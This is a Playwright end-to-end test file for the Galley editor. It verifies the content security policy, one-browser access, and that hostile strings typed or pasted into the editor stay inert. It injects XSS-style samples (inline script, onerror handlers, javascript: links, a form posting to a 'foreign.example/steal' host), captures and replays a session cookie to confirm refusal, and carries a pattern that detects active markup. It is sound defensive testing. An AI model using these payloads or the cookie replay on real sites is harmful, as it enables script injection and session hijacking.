import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Page } from '@playwright/test';
import { WebSocket } from 'ws';
import { LIMITS } from '#tests/support/patience.ts';
import { ArticlePage } from '../pages/article-page.ts';
import { ArticleListPage } from '../pages/article-list-page.ts';
import { hostileStrings } from '../support/hostile-strings.ts';
import { type SharedDesk, expect, test } from '../support/shared-galley.ts';

const WINDOW = { viewport: { width: 1280, height: 800 }, reducedMotion: 'reduce' } as const;

/** Counts what the page's policy had to stop, in every document the window shows. */
const countViolations = async (page: Page): Promise<readonly string[]> => {
  const violations: string[] = [];
  await page.exposeFunction('reportViolation', (what: string) => void violations.push(what));
  await page.addInitScript(() => {
    addEventListener('securitypolicyviolation', event => {
      const report: unknown = Reflect.get(globalThis, 'reportViolation');
      if (typeof report === 'function') Reflect.apply(report, undefined, [`${event.effectiveDirective} ${event.blockedURI}`]);
    });
  });
  return violations;
};

/** Dialogs are how the hostile strings would show that they ran. */
const collectDialogs = (page: Page): readonly string[] => {
  const dialogs: string[] = [];
  page.on('dialog', dialog => {
    if (dialog.type() !== 'beforeunload') dialogs.push(`${dialog.type()}: ${dialog.message()}`);
    void dialog.accept();
  });
  return dialogs;
};

test.describe('the window of the browser shell', () => {
  let desk: SharedDesk;
  test.beforeEach(async ({ sharedDesk }) => {
    desk = await sharedDesk('guarded', { username: 'editor', window: WINDOW });
  });

  test('breaks its own policy nowhere in a whole session', async () => {
    const page = await desk.context.newPage();
    const violations = await countViolations(page);
    const go = (path: string): Promise<unknown> => page.goto(desk.origin + path);
    for (const path of ['/', '/articles', '/articles/new', '/outbox', '/usersettings', '/404', '/403']) {
      await go(path);
      await expect(page.getByRole('banner')).toBeVisible();
      await page.waitForLoadState('networkidle');
    }
    const list = new ArticleListPage(page);
    await list.filter('contentStatus=review1&contentLocale=de-CH');
    await list.rows().first().focus();
    await page.keyboard.press('Space');
    await expect(page.getByRole('complementary')).toBeVisible();
    await list.openFirst();
    const article = new ArticlePage(page);
    await article.edit();
    await article.typeAtEndOf(article.block('paragraph'), ' Ganz gewöhnlich.');
    await page.keyboard.press('Control+Shift+Enter');
    await expect(page.getByRole('listbox')).toBeVisible();
    await page.keyboard.press('Escape');
    await article.save();
    await expect(article.state()).toContainText('Saved');
    expect(violations).toEqual([]);
    await page.close();
  });

  test('runs, loads, frames, sends and connects to nothing foreign, whatever is put into the page', async () => {
    const page = await desk.context.newPage();
    const violations = await countViolations(page);
    await page.goto(desk.origin);
    await expect(page.getByRole('banner')).toBeVisible();
    await page.evaluate(() => {
      const add = (tag: string, fields: Readonly<Record<string, string>>): HTMLElement => {
        const element = document.createElement(tag);
        for (const [name, value] of Object.entries(fields)) element.setAttribute(name, value);
        document.body.append(element);
        return element;
      };
      const pwn = 'globalThis.pwned = true';
      const inline = document.createElement('script');
      inline.textContent = pwn;
      document.body.append(inline);
      add('script', { src: 'https://foreign.example/x.js' });
      add('script', { src: `data:text/javascript,${pwn}` });
      add('img', { src: '/nothing.png', onerror: pwn });
      add('img', { src: 'https://foreign.example/pixel.png' });
      add('iframe', { src: 'https://foreign.example/' });
      add('object', { data: 'https://foreign.example/x.swf' });
      add('link', { rel: 'stylesheet', href: 'https://foreign.example/x.css' });
      add('a', { href: `javascript:${pwn}` }).click();
      const form = add('form', { action: 'https://foreign.example/steal', method: 'post' });
      if (form instanceof HTMLFormElement) form.submit();
      add('base', { href: 'https://foreign.example/' });
      void fetch('https://foreign.example/').catch(() => undefined);
      try {
        new WebSocket('wss://foreign.example/');
      } catch {
        // refused at once: that is reported too
      }
    });
    const stopped = (): readonly string[] => [...new Set(violations.map(violation => violation.split(' ')[0] ?? ''))].sort();
    await expect
      .poll(stopped)
      .toEqual([
        'base-uri',
        'connect-src',
        'form-action',
        'frame-src',
        'img-src',
        'object-src',
        'script-src-attr',
        'script-src-elem',
        'style-src-elem',
      ]);
    expect(await page.evaluate(() => Reflect.get(globalThis, 'pwned') as unknown)).toBeUndefined(); // anything there would be a breach
    expect(new URL(page.url()).origin).toBe(desk.origin);
    await page.close();
  });

  test('opens for the one browser that came with the key: a second one is refused, with the used key too', async ({ browser }) => {
    const stranger = await browser.newContext();
    const page = await stranger.newPage();
    for (const address of [desk.origin, `${desk.origin}/articles`, desk.address, `${desk.origin}/?key=guessed`]) {
      const answer = await page.goto(address);
      expect(answer?.status(), address).toBe(403);
      await expect(page.getByText('This address opens Galley only once.')).toBeVisible();
      expect(await stranger.cookies()).toEqual([]);
    }
    const media = await page.request.get(`${desk.origin}/media/anything`);
    expect(media.status()).toBe(403);
    await stranger.close();
    await desk.page.goto(desk.address);
    await expect(desk.page.getByRole('banner')).toBeVisible();
  });

  test('the window of the browser shell has nothing for another local server, to which the browser sends its cookie (C-004)', async () => {
    let stolen = '';
    const other = createServer((request, response) => {
      stolen = request.headers.cookie ?? '';
      response.end('<!doctype html><title>another server</title>');
    });
    await new Promise<void>(resolve => void other.listen(0, '127.0.0.1', resolve));
    const page = await desk.context.newPage();
    await page.goto(`http://127.0.0.1:${String((other.address() as AddressInfo).port)}/`); // it listens on TCP
    expect(stolen).toContain('galley_window_');
    expect(await page.evaluate(() => localStorage.length)).toBe(0);
    const socket = new WebSocket(`${desk.origin.replace('http', 'ws')}/bridge`, ['galley'], {
      headers: { cookie: stolen, origin: desk.origin },
    });
    socket.on('error', () => undefined);
    const refused = await new Promise(resolve => {
      socket.once('unexpected-response', (_, { statusCode }) => void resolve(statusCode));
      socket.once('open', () => void resolve('open'));
    });
    expect(refused).toBe(403);
    await page.close();
    await new Promise(resolve => void other.close(resolve));
    // Its own window goes on, in a second tab too; its address says nothing.
    const tab = await desk.context.newPage();
    await tab.goto(desk.origin);
    await expect(tab.getByRole('banner')).toBeVisible();
    expect(tab.url()).not.toContain('session');
    expect(desk.page.url()).not.toContain('session');
    await tab.close();
  });
});

test.describe('hostile strings', () => {
  /** Without the signs that keep a place for the caret. */
  const squeeze = (text: string): string => text.replaceAll('\uFEFF', '').replaceAll(/\s+/gu, ' ').trim();

  test('hostile strings stay text in every place they are typed or pasted into, also after saving and reloading', async ({
    sharedDesk,
  }) => {
    const { page, origin } = await sharedDesk('guarded', { username: 'editor', window: WINDOW });
    const dialogs = collectDialogs(page);
    const strings = hostileStrings(200);
    const shared = Math.max(1, Math.floor(strings.length / 10));
    const [forSearch, forTitle, forLead, pasted, typed] = [
      strings.slice(0, shared),
      strings.slice(shared, shared + 3),
      strings.slice(shared + 3, shared + 6),
      strings.slice(shared + 6, shared * 4),
      strings.slice(shared * 4),
    ];

    await test.step('in the search', async () => {
      await page.goto(`${origin}/articles`);
      const search = page.getByRole('searchbox', { name: 'Search articles' });
      for (const line of forSearch) {
        await search.fill(line.slice(0, 200));
        await expect(search).toHaveValue(line.slice(0, 200));
      }
      await expect(page).toHaveURL(/q=/u);
    });

    const title = forTitle.join(' ');
    await test.step('as the title of a new article', async () => {
      await page.goto(`${origin}/articles/new`);
      await page.getByRole('textbox', { name: 'Title' }).fill(title);
      await page.getByRole('radio', { name: /^Empty/u }).check();
      await page.keyboard.press('Control+Enter');
      await expect(page.locator('[data-block="title"]')).toBeVisible();
      await expect.poll(async () => squeeze(await page.locator('[data-block="title"]').innerText())).toBe(squeeze(title));
    });

    const article = new ArticlePage(page);
    const lead = forLead.join(' ');
    await test.step('typed into lead and paragraphs, pasted as text and as markup', async () => {
      await article.block('lead').click();
      await page.keyboard.insertText(lead);
      await article.block('paragraph').click();
      for (const line of typed) {
        await page.keyboard.insertText(line);
        await page.keyboard.press('Enter');
      }
      await page.keyboard.insertText('ENDE DES GETIPPTEN');
      for (const line of pasted) {
        await page.keyboard.press('Enter');
        await page.evaluate(html => {
          const data = new DataTransfer();
          data.setData('text/html', `<p>Vorher ${html} nachher</p>`);
          data.setData('text/plain', html);
          document.activeElement?.dispatchEvent(new ClipboardEvent('paste', { clipboardData: data, bubbles: true, cancelable: true }));
        }, line);
      }
    });

    const expectHarmless = async (): Promise<void> => {
      await expect.poll(async () => squeeze(await article.block('lead').innerText())).toBe(squeeze(lead));
      // A long text is drawn from its start; its end comes while the page is idle.
      await expect(async () => {
        const blocks = (await page.locator('.g-writing [class*="g-block-"]').allTextContents()).map(squeeze);
        expect(typed.filter(line => !blocks.includes(squeeze(line)))).toEqual([]);
      }).toPass({ timeout: LIMITS.act });
      const active = await page.evaluate(() => {
        const inside = [...document.querySelectorAll('.g-writing, .g-writing *')];
        const handlers = inside.filter(element => [...element.attributes].some(({ name }) => name.startsWith('on')));
        const foreign = inside.filter(element => /^(?:SCRIPT|IFRAME|OBJECT|EMBED|FORM|STYLE|BASE|META|svg|math)$/u.test(element.tagName));
        const links = inside.filter(element => /^\s*(?:javascript|data|vbscript):/iu.test(element.getAttribute('href') ?? ''));
        return [...handlers, ...foreign, ...links].map(element => element.outerHTML.slice(0, 200));
      });
      expect(active).toEqual([]);
      expect(dialogs).toEqual([]);
    };
    await expectHarmless();

    await test.step('after saving and reloading, in the text, the list and the revisions', async () => {
      await article.save();
      await expect(article.state()).toContainText('Saved');
      await page.reload();
      await expect(article.block('title')).toBeVisible();
      await expectHarmless();
      const list = new ArticleListPage(page);
      await list.filter('contentLocale=all');
      await expect(page.locator('.g-rows-title').first()).toHaveText(squeeze(title));
      expect(dialogs).toEqual([]);
    });
  });
});
